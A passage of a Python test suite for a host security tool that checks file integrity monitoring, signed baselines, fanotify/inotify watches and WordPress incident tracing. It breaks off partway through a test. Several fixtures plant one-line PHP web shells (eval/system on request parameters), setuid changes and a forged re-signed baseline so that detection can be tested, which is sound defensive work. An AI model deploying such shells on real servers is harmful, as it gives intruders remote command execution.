        shell = os.path.join(self.root, "var/www/shop/.x.php")
        spit(shell, "<?php eval($_POST[1]);")
        p = self.fim("--format", "json", "--fail-on", "high", "fim", "check", check=1)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["scan"]["scope"], "fim")
        f = doc["findings"][0]
        self.assertEqual((f["module"], f["check"], f["asset"], f["severity"], f["state"]),
                         ("fim", "file-added", "/var/www/shop/.x.php", "high", "new"))
        # Still there at the next check: open. Accepted by 'fim update': fixed.
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        self.assertEqual(doc["findings"][0]["state"], "open")
        self.fim("fim", "update", check=0)
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        self.assertEqual([x["state"] for x in doc["findings"]], ["fixed"])

    def test_tampered_baseline_is_critical_and_never_overwritten(self):
        self.fim("fim", "init", "/var/www", "/etc", check=0)
        base = os.path.join(self.tmp, "state", "fim.baseline")
        raw = bytearray(slurp(base, "rb"))  # any byte changed breaks the signature
        raw[len(raw) // 2] ^= 1
        spit(base, bytes(raw), "wb")
        p = self.fim("--format", "json", "fim", "check")
        self.assertEqual(p.returncode, 0)
        doc = json.loads(p.stdout)
        self.assertEqual([(f["check"], f["severity"]) for f in doc["findings"]],
                         [("baseline-signature-invalid", "critical")])
        p = self.fim("fim", "update")
        self.assertEqual(p.returncode, 3)
        self.assertIn("refusing to replace", p.stderr)
        self.assertEqual(slurp(base, "rb"), bytes(raw))
        self.fim("fim", "update", "--force", check=0)

    def test_default_policy_severities_and_partial_update(self):
        for rel, body in (("etc/ssh/sshd_config", "PasswordAuthentication no\n"),
                          ("var/www/shop/wp-content/uploads/logo.png", "PNG")):
            os.makedirs(os.path.dirname(os.path.join(self.root, rel)), exist_ok=True)
            spit(os.path.join(self.root, rel), body)
        p = self.fim("fim", "policy", check=0)
        self.assertIn("webroots = [ '/var/www' ]", p.stdout)  # the web root found on the "host"
        self.assertIn("path = '/etc/ssh'", p.stdout)
        self.assertIn("not on this host: ", p.stdout)    # /boot, /usr/sbin, ... absent here
        self.fim("fim", "init", check=0)                 # the built-in policy
        spit(os.path.join(self.root, "etc/ssh/sshd_config"), "PasswordAuthentication yes\n")
        spit(os.path.join(self.root, "var/www/shop/wp-content/uploads/x.php"), "<?php eval($_GET[1]);")
        spit(os.path.join(self.root, "etc/app.conf"), "a=2\n")
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        got = {f["asset"]: f for f in doc["findings"]}
        self.assertEqual(got["/etc/ssh/sshd_config"]["severity"], "high")
        self.assertIn("why it matters: SSH server configuration", got["/etc/ssh/sshd_config"]["evidence"])
        self.assertEqual(got["/var/www/shop/wp-content/uploads/x.php"]["severity"], "critical")
        self.assertIn("web shell", got["/var/www/shop/wp-content/uploads/x.php"]["evidence"])
        self.assertEqual(got["/etc/app.conf"]["severity"], "medium")
        # Accept /etc only: the web shell stays reported.
        p = self.fim("fim", "update", "/etc", check=0)
        self.assertIn("re-recorded /etc", p.stdout)
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        active = sorted(f["asset"] for f in doc["findings"] if f["state"] != "fixed")
        self.assertEqual(active, ["/var/www/shop/wp-content/uploads/x.php"])
        p = self.fim("fim", "update", "/opt")
        self.assertEqual(p.returncode, 3)
        self.assertIn("not covered by the baseline", p.stderr)

    def test_policy_file_errors_and_default(self):
        p = self.fim("fim", "policy", "--default", check=0)
        self.assertIn("[[watch]]", p.stdout)
        own = os.path.join(self.tmp, "own.toml")
        spit(own, p.stdout.replace('path = "/etc"\n', 'path = "/etc"\ncheck = ["perms"]\n', 1))
        self.fim("fim", "init", "--config", own, "--baseline", os.path.join(self.tmp, "own.b"), check=0)
        spit(os.path.join(self.root, "etc/app.conf"), "a=3\n")  # content only: not compared
        doc = json.loads(self.fim("--format", "json", "fim", "check", "--baseline",
                                  os.path.join(self.tmp, "own.b"), check=0).stdout)
        self.assertNotIn("/etc/app.conf", [f["asset"] for f in doc["findings"]])
        bad = os.path.join(self.tmp, "bad.toml")
        spit(bad, '# mine\n[[watch]]\npath = "etc"\n')
        p = self.fim("fim", "init", "--config", bad, "--baseline", os.path.join(self.tmp, "x.b"))
        self.assertEqual(p.returncode, 3)
        self.assertIn("bad.toml:2:1", p.stderr)
        self.assertIn("absolute path", p.stderr)
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "x.b")))

    def test_scan_includes_a_quick_check_when_a_baseline_exists(self):
        tree = os.path.join(self.tmp, "site")  # a host path: scan checks this machine
        os.makedirs(tree)
        spit(os.path.join(tree, "index.php"), "<?php echo 1;")
        env = {"MAMORI_STATE_DIR": os.path.join(self.tmp, "hoststate")}
        mamori("-q", "fim", "init", tree, env=env, check=0)
        spit(os.path.join(tree, "index.php"), "<?php eval($_GET[1]);")
        p = mamori("--store", self.db, "--host", "me", "--format", "json", "-q", "scan", env=env)
        self.assertIn(p.returncode, (0, 1), p.stderr)
        doc = json.loads(p.stdout)
        fim = [f for f in doc["findings"] if f["module"] == "fim"]
        self.assertEqual([(f["check"], f["asset"]) for f in fim],
                         [("file-changed", os.path.join(tree, "index.php"))])
        # Recorded under the fim scope: `fim check` sees the same finding as open.
        doc = json.loads(mamori("--store", self.db, "--host", "me", "--format", "json", "-q",
                                "fim", "check", env=env, check=0).stdout)
        self.assertEqual([f["state"] for f in doc["findings"]], ["open"])

    @unittest.skipUnless(os.path.exists("/var/lib/dpkg/status") and shutil.which("dpkg"),
                         "needs a dpkg-based host")
    def test_packages_agree_with_dpkg_verify_on_this_host(self):
        """Oracle: dpkg --verify on the real host (md5 mismatches and missing files, conffiles
        apart) names exactly the files `fim packages` reports."""
        p = mamori("--store", self.db, "--format", "json", "-q", "fim", "packages")
        self.assertIn(p.returncode, (0, 1), p.stderr)
        ours = {f["asset"]: f["check"] for f in json.loads(p.stdout)["findings"]}
        packaged = set()
        for name in os.listdir("/var/lib/dpkg/info"):
            if name.endswith(".md5sums"):
                with open(os.path.join("/var/lib/dpkg/info", name), errors="replace") as f:
                    packaged.update("/" + line[34:].rstrip("\n") for line in f)
        out = subprocess.run(["dpkg", "--verify"], capture_output=True, text=True).stdout
        theirs = {}
        for line in out.splitlines():
            parts = line.split(None, 2)
            if len(parts) == 3 and parts[1] == "c":
                continue  # conffiles: fim check's business
            flags, path = parts[0], parts[-1]
            if path in packaged and (flags == "missing" or flags[2] == "5"):
                theirs[path] = "package-file-missing" if flags == "missing" else "package-file-modified"
        self.assertEqual(ours, theirs)

    def test_hostile_tree(self):
        """Symlink loops, FIFOs, sockets and device nodes, an unreadable directory, nested bind
        mounts: recorded or reported, never followed, opened or silently skipped."""
        import socket
        import stat as st
        tree = os.path.join(self.root, "srv/app")
        os.makedirs(os.path.join(tree, "secret"))
        spit(os.path.join(tree, "secret/key"), "k")
        os.symlink("b", os.path.join(tree, "a"))
        os.symlink("a", os.path.join(tree, "b"))                  # a symlink loop
        os.mkfifo(os.path.join(tree, "fifo"))                     # opening it would block
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(os.path.join(tree, "sock"))
        if os.geteuid() == 0:
            os.mknod(os.path.join(tree, "null"), 0o600 | st.S_IFCHR, os.makedev(1, 3))
        self.fim("fim", "init", "/srv/app", check=0)
        base = slurp(os.path.join(self.tmp, "state", "fim.baseline"))
        self.assertIn("/srv/app/a\tl\t", base)
        self.assertIn("/srv/app/fifo\tp\t", base)
        self.assertIn("/srv/app/sock\ts\t", base)
        doc = json.loads(self.fim("--format", "json", "fim", "check", "--full", check=0).stdout)
        self.assertEqual(doc["findings"], [])
        sock.close()
        # An unreadable directory (root without CAP_DAC_*): a warning, not a silent gap, and
        # its baseline entries are "not checked", not "removed".
        if os.geteuid() == 0 and shutil.which("setpriv"):
            os.chmod(os.path.join(tree, "secret"), 0)
            e = dict(os.environ, MAMORI_STATE_DIR=os.path.join(self.tmp, "state"))
            p = subprocess.run(["setpriv", "--bounding-set=-dac_override,-dac_read_search", BIN,
                                "--root", self.root, "--store", self.db, "--format", "json",
                                "fim", "check"], capture_output=True, text=True, env=e)
            os.chmod(os.path.join(tree, "secret"), 0o755)
            if "setpriv" in p.stderr:
                self.skipTest("cannot drop capabilities here: " + p.stderr.strip())
            self.assertEqual(p.returncode, 0, p.stderr)
            doc = json.loads(p.stdout)
            self.assertNotIn("/srv/app/secret/key", [f["asset"] for f in doc["findings"]])
            self.assertTrue(any("cannot list directory /srv/app/secret" in w for w in doc["warnings"]),
                            doc["warnings"])
            self.assertTrue(any("not checked" in w for w in doc["warnings"]), doc["warnings"])

    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("unshare"), "needs root and unshare")
    def test_nested_bind_mounts_are_not_crossed(self):
        tree = os.path.join(self.root, "srv/app")
        outside = os.path.join(self.tmp, "outside")
        os.makedirs(tree)
        os.makedirs(outside)
        spit(os.path.join(outside, "big"), "x")
        d = tree
        script = []
        for i in range(10):  # ten bind mounts, each inside the previous one
            d = os.path.join(d, f"m{i}")
            script.append(f"mkdir -p {d} && mount --bind {outside} {d}")
            outside_next = os.path.join(self.tmp, f"outside{i}")
            os.makedirs(outside_next)
            spit(os.path.join(outside_next, "big"), "x")
            os.makedirs(os.path.join(outside, f"m{i + 1}"), exist_ok=True)
            outside = outside_next
        cmd = " && ".join(script) + " && " + " ".join(
            [BIN, "--root", self.root, "--store", self.db, "fim", "init", "/srv/app"])
        p = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", cmd],
                           capture_output=True, text=True,
                           env=dict(os.environ, MAMORI_STATE_DIR=os.path.join(self.tmp, "state")))
        if p.returncode != 0 and "unshare" in p.stderr:
            self.skipTest("no mount namespace here: " + p.stderr.strip())
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn("mount points not crossed", p.stderr)
        base = slurp(os.path.join(self.tmp, "state", "fim.baseline"))
        self.assertIn("/srv/app/m0\td\t", base)      # the mount point itself
        self.assertNotIn("/srv/app/m0/big", base)      # not what is mounted there

    def test_a_baseline_re_signed_with_another_key_is_caught(self):
        """Root on the host can swap STATE_DIR/fim.pub and re-sign a doctored baseline: the
        pinned fingerprint (the store's, or the one the operator kept) catches it."""
        state = os.path.join(self.tmp, "state")
        p = self.fim("fim", "init", "/var/www", check=0)
        fp = re.search(r"signing key (SHA256:[A-Za-z0-9+/]+)", p.stdout).group(1)
        p = self.fim("--format", "json", "fim", "check", check=0)
        self.assertEqual(json.loads(p.stdout)["findings"], [])
        self.assertIn("host's own key", mamori("--root", self.root, "--store", self.db, "--host",
                                               "web01", "fim", "check",
                                               env={"MAMORI_STATE_DIR": state}, check=0).stdout)
        # the intruder: a web shell, a key of their own, the baseline re-signed with their tools
        # (another store: the host's pin stays), their public key where the host's was
        spit(os.path.join(self.root, "var/www/shop/.cache.php"), "<?php eval($_POST[1]);")
        evil = os.path.join(self.tmp, "evil.key")
        self.fim("fim", "keygen", "--key", evil, check=0)
        mamori("--root", self.root, "--store", os.path.join(self.tmp, "other.db"), "--host", "web01",
               "-q", "fim", "init", "/var/www", "--force", "--key", evil,
               env={"MAMORI_STATE_DIR": state}, check=0)
        shutil.copy(evil + ".pub", os.path.join(state, "fim.pub"))
        p = self.fim("--format", "json", "fim", "check", check=0)
        got = [(f["check"], f["severity"]) for f in json.loads(p.stdout)["findings"]]
        self.assertEqual(got, [("baseline-key-changed", "critical")])  # and the files not compared
        # re-pinning needs a decision, and the fingerprint kept off the host still tells
        p = self.fim("fim", "init", "/var/www", "--force", "--key", evil, check=3)
        self.assertIn("--new-key", p.stderr)
        self.fim("fim", "init", "/var/www", "--force", "--key", evil, "--new-key", check=0)
        p = self.fim("--format", "json", "fim", "check", "--fingerprint", fp, check=0)
        got = [(f["check"], f["severity"]) for f in json.loads(p.stdout)["findings"]
               if f["state"] != "fixed"]
        self.assertEqual(got, [("baseline-key-mismatch", "critical")])
        p = self.fim("--format", "json", "fim", "check", "--pubkey", evil + ".pub", check=0)
        doc = json.loads(p.stdout)
        self.assertEqual([f for f in doc["findings"] if f["state"] != "fixed"], [])
        self.assertFalse(any("host's own key" in w for w in doc["warnings"]), doc["warnings"])

    def test_a_check_that_cannot_trust_the_baseline_fixes_nothing(self):
        """A typo in --fingerprint or --pubkey, or a damaged signature: the findings of the last
        trusted check stay open (the check is recorded as partial), never turn "fixed"."""
        self.fim("fim", "init", "/var/www", "/etc", check=0)
        spit(os.path.join(self.root, "etc/app.conf"), "a=2\n")
        spit(os.path.join(self.root, "var/www/shop/x.php"), "<?php eval($_POST[1]);")
        first = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        opened = {f["fingerprint"] for f in first["findings"]}
        self.assertEqual(len(opened), 2)
        p = self.fim("fim", "check", "--fingerprint", "WyBZnotafingerprint", check=2)
        self.assertIn("not a key fingerprint", p.stderr)
        p = self.fim("fim", "check", "--pubkey", os.path.join(self.tmp, "nope.pub"), check=3)
        self.assertIn("no such file", p.stderr)
        sig = os.path.join(self.tmp, "state", "fim.baseline.sig")
        good = slurp(sig, "rb")
        spit(sig, bytes(64), "wb")
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        states = {f["fingerprint"]: f["state"] for f in doc["findings"]}
        self.assertEqual([f["check"] for f in doc["findings"] if f["state"] == "new"],
                         ["baseline-signature-invalid"])
        for fp in opened:
            self.assertNotEqual(states.get(fp), "fixed")
        spit(sig, good, "wb")
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        self.assertEqual({f["fingerprint"]: f["state"] for f in doc["findings"]
                          if f["fingerprint"] in opened}, {fp: "open" for fp in opened})

    def test_moving_to_an_off_host_key(self):
        """keygen, then update --key --new-key (no --force): later checks verify with the new
        key without --pubkey, and the store pins it."""
        self.fim("fim", "init", "/var/www", check=0)
        off = os.path.join(self.tmp, "offhost.key")
        p = self.fim("fim", "keygen", "--key", off, check=0)
        fp = re.search(r"fingerprint (SHA256:[A-Za-z0-9+/]+)", p.stdout).group(1)
        p = self.fim("fim", "update", "--key", off, check=3)
        self.assertIn("--new-key", p.stderr)
        p = self.fim("fim", "update", "--key", off, "--new-key", check=0)
        self.assertIn(fp, p.stdout)
        doc = json.loads(self.fim("--format", "json", "fim", "check", check=0).stdout)
        self.assertEqual([f for f in doc["findings"] if f["state"] != "fixed"], [])
        doc = json.loads(self.fim("--format", "json", "fim", "check", "--fingerprint", fp,
                                  check=0).stdout)
        self.assertEqual([f for f in doc["findings"] if f["state"] != "fixed"], [])
        self.assertEqual(doc["warnings"], [])

    def test_off_host_key(self):
        key = os.path.join(self.tmp, "offhost", "fim.key")
        self.fim("fim", "keygen", "--key", key, check=0)
        self.assertEqual(oct(os.stat(key).st_mode & 0o777), "0o600")
        self.assertEqual(self.fim("fim", "keygen", "--key", key).returncode, 3)  # never overwritten
        base = os.path.join(self.tmp, "b.baseline")
        self.fim("fim", "init", "--baseline", base, "--key", key, "/etc", check=0)
        p = self.fim("--format", "json", "fim", "check", "--baseline", base, "--pubkey", key + ".pub", check=0)
        self.assertEqual(json.loads(p.stdout)["findings"], [])
        # Verified with the host's own public key (another key): not trusted.
        p = self.fim("--format", "json", "fim", "check", "--baseline", base)
        self.assertEqual(json.loads(p.stdout)["findings"][0]["check"], "baseline-signature-invalid")


class WatchedTree:
    """A `fim watch` the test starts (self.proc), its JSON lines and notes read in threads;
    killed at tearDown if still running. Mixed in before Base."""

    def tearDown(self):
        if self.proc:
            if self.proc.poll() is None:
                self.proc.kill()
            self.proc.wait()
            self.proc.stdout.close()
            self.proc.stderr.close()
        super().tearDown()

    def start(self, backend):
        import queue
        import threading
        e = dict(os.environ)
        e.update(self.env)
        self.proc = subprocess.Popen(
            [BIN, "--root", self.root, "--store", self.db, "--host", "web01", "--format", "json",
             "fim", "watch", "--backend", backend],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=e)
        self.lines, self.notes = queue.Queue(), queue.Queue()
        for stream, q in ((self.proc.stdout, self.lines), (self.proc.stderr, self.notes)):
            threading.Thread(target=lambda s=stream, q=q: [q.put(x) for x in s], daemon=True).start()
        while True:  # ready once the marks/watches are in place
            try:
                note = self.notes.get(timeout=20)
            except Exception:
                self.fail("fim watch did not start")
            if "watching" in note:
                return
            if "error" in note:
                if "fanotify" in note and ("not permitted" in note or "Operation" in note):
                    self.skipTest("fanotify not permitted here: " + note.strip())
                self.fail(note)

    def collect(self, want, timeout=20):
        """Findings by asset until every asset in `want` was reported (or the timeout)."""
        import time
        got, deadline = {}, time.monotonic() + timeout
        while not want.issubset(got) and time.monotonic() < deadline:
            try:
                f = json.loads(self.lines.get(timeout=0.5))
            except Exception:
                continue
            got.setdefault(f["asset"], []).append(f)
        self.assertTrue(want.issubset(got), f"missing {sorted(want - set(got))}; got {sorted(got)}")
        return got

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        self.assertEqual(self.proc.wait(timeout=20), 0)


class FimWatch(WatchedTree, Base):
    """`fim watch` on a fixture tree: real fanotify (when permitted) and inotify."""

    def setUp(self):
        super().setUp()
        self.root = os.path.join(self.tmp, "watchroot")
        for rel, body in (("var/www/shop/index.php", "<?php echo 1;\n"),
                          ("var/www/shop/wp-content/uploads/logo.png", "PNG"),
                          ("usr/bin/tool", "#!/bin/sh\necho tool\n"), ("usr/bin/other", "other\n"),
                          ("etc/app.conf", "a=1\n"), ("etc/gone.conf", "g\n")):
            os.makedirs(os.path.dirname(os.path.join(self.root, rel)), exist_ok=True)
            spit(os.path.join(self.root, rel), body)
        os.symlink("tool", os.path.join(self.root, "usr/bin/link"))
        self.env = {"MAMORI_STATE_DIR": os.path.join(self.tmp, "state")}
        mamori("--root", self.root, "--store", self.db, "-q", "fim", "init", env=self.env, check=0)
        self.proc = None

    def planted_changes(self, backend):
        self.start(backend)
        r = lambda rel: os.path.join(self.root, rel)
        st = os.stat(r("var/www/shop/index.php"))
        spit(r("var/www/shop/index.php"), "<?php system($_GET[1]);\n")      # content, mtime put back
        os.utime(r("var/www/shop/index.php"), ns=(st.st_atime_ns, st.st_mtime_ns))
        spit(r("var/www/shop/wp-content/uploads/.s.php"), "<?php eval($_POST[1]);")  # hidden shell
        os.chmod(r("usr/bin/tool"), 0o4755)                                 # setuid appeared
        os.setxattr(r("usr/bin/other"), "user.mark", b"1")                   # xattr
        os.remove(r("usr/bin/link"))                                         # symlink retargeted
        os.symlink("/tmp/evil", r("usr/bin/link"))
        spit(r("etc/app.conf.new"), "a=1\n")                                # replaced by rename
        os.rename(r("etc/app.conf.new"), r("etc/app.conf"))
        os.remove(r("etc/gone.conf"))                                        # deletion
        owner = os.geteuid() == 0
        if owner:
            os.chown(r("usr/bin/other"), 1234, 1234)                         # owner
        got = self.collect({"/var/www/shop/index.php", "/var/www/shop/wp-content/uploads/.s.php",
                            "/usr/bin/tool", "/usr/bin/other", "/usr/bin/link", "/etc/app.conf",
                            "/etc/gone.conf"})
        ev = lambda a: " | ".join(f["evidence"] for f in got[a])
        sev = lambda a: got[a][-1]["severity"]
        self.assertIn("timestamp restored", ev("/var/www/shop/index.php"))
        self.assertEqual(sev("/var/www/shop/wp-content/uploads/.s.php"), "critical")
        self.assertEqual(got["/var/www/shop/wp-content/uploads/.s.php"][0]["check"], "file-added")
        self.assertIn("mode: 0644 → 4755", ev("/usr/bin/tool"))
        self.assertEqual(sev("/usr/bin/tool"), "critical")
        self.assertIn("xattr added: user.mark", ev("/usr/bin/other"))
        self.assertIn("symlink: tool → /tmp/evil", ev("/usr/bin/link"))
        self.assertIn("(replaced)", ev("/etc/app.conf"))
        self.assertEqual(got["/etc/gone.conf"][0]["check"], "file-removed")
        if owner:
            got.update(self.collect({"/usr/bin/other"}) if "owner: 0 → 1234" not in ev("/usr/bin/other") else {})
            self.assertIn("owner: 0 → 1234", ev("/usr/bin/other"))
        self.assertTrue(got)
        for fs in got.values():
            self.assertTrue(fs)
            for f in fs:
                self.assertEqual((f["module"], f["host"]), ("fim", "web01"))
        self.stop()
        # Recorded in the store as fim findings of web01, all active.
        con = sqlite3.connect(self.db)
        rows = dict(con.execute("SELECT asset, state FROM findings WHERE host='web01' AND scope='fim'"))
        self.assertEqual(rows.get("/usr/bin/tool"), "new")
        self.assertEqual(rows.get("/etc/gone.conf"), "new")
        return got

    def test_fanotify_reports_planted_changes_and_who(self):
        got = self.planted_changes("fanotify")
        # fanotify names the process: the test itself (python) made these changes.
        self.assertIn(f"changed by pid {os.getpid()}", got["/usr/bin/tool"][-1]["evidence"])
        # the same, for machines: the finding's facts (what web incident reads back)
        facts = got["/usr/bin/tool"][-1]["facts"]
        self.assertEqual((facts["writer_pid"], facts["writer_uid"]),
                         (str(os.getpid()), str(os.geteuid())))
        self.assertTrue(facts["writer_exe"].startswith("/"))

    def test_inotify_reports_planted_changes(self):
        got = self.planted_changes("inotify")
        self.assertIn("not known (inotify does not tell)", got["/usr/bin/tool"][-1]["evidence"])
        self.assertNotIn("facts", got["/usr/bin/tool"][-1])

    def overflow(self, backend):
        self.start(backend)
        os.kill(self.proc.pid, signal.SIGSTOP)  # the kernel queue fills while it sleeps
        data = os.path.join(self.root, "var/www/shop")  # watched already: one event per file
        for i in range(17000):
            open(os.path.join(data, f"f{i}"), "w").close()
        spit(os.path.join(self.root, "etc/late.conf"), "x")
        os.kill(self.proc.pid, signal.SIGCONT)
        got = self.collect({"/etc/late.conf", "/var/www/shop/f16999"}, timeout=60)
        self.assertIn("rescan after the event queue overflowed",
                      got["/etc/late.conf"][-1]["evidence"] + got["/var/www/shop/f16999"][-1]["evidence"])
        self.stop()
        notes = []
        while not self.notes.empty():
            notes.append(self.notes.get())
        self.assertTrue(any("overflowed: rescanning" in n for n in notes), notes)

    def test_fanotify_overflow_rescans(self):
        self.overflow("fanotify")

    def test_inotify_overflow_rescans(self):
        self.overflow("inotify")

    def test_untrusted_baseline_is_not_watched(self):
        base = os.path.join(self.tmp, "state", "fim.baseline")
        spit(base, slurp(base) + "#\n")
        p = mamori("--root", self.root, "--store", self.db, "--host", "web01", "--format", "json",
                   "fim", "watch", env=self.env)
        self.assertEqual(p.returncode, 3)
        self.assertIn("untrusted baseline", p.stderr)
        self.assertEqual(json.loads(p.stdout.splitlines()[0])["check"], "baseline-signature-invalid")


class Reports(Base):
    def test_html_and_sarif_files(self):
        root = self.fixture_copy("debian10")
        out = os.path.join(self.tmp, "r.html")
        mamori("--root", root, "--store", self.db, "--format", "html", "-o", out, "-q", "scan",
               check=0)
        html = slurp(out)
        self.assertTrue(html.startswith("<!DOCTYPE html>"))
        self.assertIn("os-end-of-support", html)
        sarif = os.path.join(self.tmp, "r.sarif")
        mamori("--store", self.db, "--host", "shop01", "--format", "sarif", "-o", sarif, "report",
               check=0)
        doc = json.loads(slurp(sarif))
        self.assertEqual(doc["version"], "2.1.0")
        self.assertEqual(len(doc["runs"][0]["results"]), 5)

    def test_text_report_has_one_line_summary(self):
        root = self.fixture_copy("debian10")
        p = mamori("--root", root, "--store", self.db, "-q", "scan", check=0)
        last = p.stdout.strip().splitlines()[-1]
        # inventory 4, vuln 1, and the audit: RDP open to all (critical), SSH (medium)
        self.assertRegex(last, r"^7 findings: 1 critical, 1 high, 5 medium, 0 low, 0 info — 7 new, 0 fixed, 0 accepted$")
        self.assertIn("EXPOSE-RDP", p.stdout)
        self.assertNotIn("\x1b", p.stdout)  # not a TTY: no colour


# Need root (nftables in namespaces they create, fanotify, mount namespaces, dropping
# capabilities): ctest runs them as cli_e2e_root, labelled root; CI runs as root.
ROOT_TESTS = ("GuardBans", "FimWatch", "Fim.test_hostile_tree",
              "Fim.test_nested_bind_mounts_are_not_crossed",
              "WebIncident.test_a_shell_dropped_through_a_vulnerable_plugin_is_traced_to_request_"
              "plugin_and_writer")


class WebIncident(WatchedTree, Base):
    """`web incident` on a WordPress tree: a shell dropped through a vulnerable plugin, seen by a
    real `fim watch` (fanotify names the writer), traced to the request and the plugin."""

    WP = "var/www/html"
    SHELL = "/var/www/html/wp-content/uploads/2026/12/cache.php"

    def setUp(self):
        super().setUp()
        self.root = os.path.join(self.tmp, "wproot")
        r = lambda rel: os.path.join(self.root, rel)
        self.plugin = r(self.WP + "/wp-content/plugins/contact-form-7/wp-contact-form-7.php")
        for rel, body in ((self.WP + "/wp-includes/version.php", "<?php $wp_version = '6.4.2';\n"),
                          (self.WP + "/index.php", "<?php require 'wp-blog-header.php';\n"),
                          (self.WP + "/wp-content/uploads/2026/12/photo.jpg", "JPEG"),
                          ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
                                         "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n")):
            os.makedirs(os.path.dirname(r(rel)), exist_ok=True)
            spit(r(rel), body)
        os.makedirs(os.path.dirname(self.plugin))
        self.write_plugin("5.3.1")
        gallery = r(self.WP + "/wp-content/plugins/gallery/gallery.php")
        os.makedirs(os.path.dirname(gallery))
        spit(gallery, "<?php\n/*\nPlugin Name: Gallery\nVersion: 1.0\n*/\n"
                      "add_action( 'wp_ajax_nopriv_gal_search', 'gal_search' );\n")
        os.makedirs(r("var/log/nginx"))
        # the web server's user may write the uploads (as WordPress needs)
        os.chmod(self.tmp, 0o711)
        for d, _, _ in os.walk(r(self.WP + "/wp-content/uploads")):
            os.chmod(d, 0o777)
        self.vdb = os.path.join(self.tmp, "vulns.db")
        src = os.path.join(self.tmp, "wp.jsonl")
        adv = lambda i, slug, summary, fixed: json.dumps({
            "id": f"WPVDB-2099-000{i}", "aliases": [f"CVE-2099-400{i}"], "summary": summary,
            "affected": [{"package": {"ecosystem": "WordPress:plugin", "name": slug},
                          "ranges": [{"type": "ECOSYSTEM",
                                      "events": [{"introduced": "0"}, {"fixed": fixed}]}]}]})
        spit(src, adv(1, "contact-form-7",
                      "Contact Form 7 <= 5.3.1 - Unauthenticated Arbitrary File Upload", "5.3.2")
             + "\n" + adv(2, "gallery", "Gallery <= 1.0 - Reflected Cross-Site Scripting", "1.1")
             + "\n")
        mamori("--db", self.vdb, "-q", "db", "import", src, check=0)
        self.env = {"MAMORI_STATE_DIR": os.path.join(self.tmp, "state")}
        self.proc = None

    def write_plugin(self, version):
        spit(self.plugin, "<?php\n/*\nPlugin Name: Contact Form 7\nVersion: %s\n*/\n"
             "add_action( 'wp_ajax_nopriv_wpcf7_upload', 'wpcf7_upload' );\n" % version)

    def incident(self, *args, check=0):
        p = mamori("--root", self.root, "--store", self.db, "--db", self.vdb, "--host", "web01",
                   "--format", "json", "web", "incident", *args, "--no-journal", env=self.env,
                   check=check)
        return json.loads(p.stdout) if check == 0 else p

    def clf(self, t):
        import time
        return time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(t))

    def test_a_shell_dropped_through_a_vulnerable_plugin_is_traced_to_request_plugin_and_writer(self):
        if os.geteuid() != 0:
            self.skipTest("writing as www-data needs root")
        # The scan before the incident records plugin 5.3.1; the fix comes after.
        mamori("--root", self.root, "--store", self.db, "--db", self.vdb, "--host", "web01", "-q",
               "scan", "--skip", "audit", env=self.env, check=0)
        mamori("--root", self.root, "--store", self.db, "--host", "web01", "-q", "fim", "init",
               env=self.env, check=0)
        self.start("fanotify")
        shell = os.path.join(self.root, self.SHELL[1:])
        # php-fpm as www-data writes the upload; an administrator (root) edits the theme
        subprocess.run(["setpriv", "--reuid=33", "--regid=33", "--clear-groups", "python3", "-c",
                        "import sys, time; open(sys.argv[1], 'w').write('<?php system($_GET[\"c\"]);'); "
                        "time.sleep(2)",  # alive while fim watch reads /proc, as php-fpm is
                        shell], check=True)
        # processes that name themselves as they like: a "dpkg" outside /usr/bin as root, a
        # "php-fpm8.2" as an ordinary user
        fakes = os.path.join(self.tmp, "fakes")
        os.makedirs(fakes)
        os.chmod(fakes, 0o755)
        for name in ("dpkg", "php-fpm8.2"):
            shutil.copy(sys.executable, os.path.join(fakes, name))
        uploads = os.path.join(self.root, self.WP, "wp-content/uploads/2026/12")
        write = "import sys, time; open(sys.argv[1], 'w').write('<?php'); time.sleep(2)"
        subprocess.run([os.path.join(fakes, "dpkg"), "-c", write, uploads + "/pm.php"], check=True)
        subprocess.run(["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups",
                        os.path.join(fakes, "php-fpm8.2"), "-c", write, uploads + "/fpm.php"],
                       check=True)
        got = self.collect({self.SHELL, "/" + self.WP + "/wp-content/uploads/2026/12/pm.php",
                            "/" + self.WP + "/wp-content/uploads/2026/12/fpm.php"})
        self.stop()
        for name in ("pm.php", "fpm.php"):
            j = self.incident("/" + self.WP + "/wp-content/uploads/2026/12/" + name)
            self.assertIn("not by the web server", j["probable_cause"])
            self.assertNotIn("package manager", j["probable_cause"])
            self.assertNotEqual(j["confidence"], "high", j["probable_cause"])
        f = got[self.SHELL][-1]
        self.assertIn("uid 33", f["evidence"])
        import calendar
        import time
        t = calendar.timegm(time.strptime(f["first_seen"], "%Y-%m-%dT%H:%M:%SZ"))
        self.write_plugin("5.3.2")  # patched after the fact
        lines = [
            f'198.51.100.7 - - [{self.clf(t - 1800)}] "GET / HTTP/1.1" 200 5120 "-" "Mozilla"',
            f'198.51.100.7 - - [{self.clf(t - 120)}] "POST /wp-comments-post.php HTTP/1.1" 302 0 "-" "M"',
            f'203.0.113.5 - - [{self.clf(t - 2)}] "POST /wp-admin/admin-ajax.php?action=wpcf7_upload '
            f'HTTP/1.1" 200 42 "-" "python-requests"',
            # a visitor's search 1 s before (an XSS-prone plugin: it writes no file) and a flood
            # of posts around the change: neither may push the upload out or take its place
            f'198.51.100.20 - - [{self.clf(t - 1)}] "GET /wp-admin/admin-ajax.php?action=gal_search'
            f'&q=shoes HTTP/1.1" 200 900 "-" "Mozilla"',
